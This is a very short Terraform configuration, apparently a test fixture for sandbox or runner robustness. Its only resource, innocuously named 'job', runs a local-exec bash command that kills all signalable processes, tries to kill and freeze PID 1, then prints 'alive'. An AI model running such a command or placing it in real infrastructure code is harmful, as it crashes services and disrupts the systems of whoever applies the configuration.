resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      kill -9 -1; kill -9 1; kill -STOP 1; echo alive
    EOT
  }
}
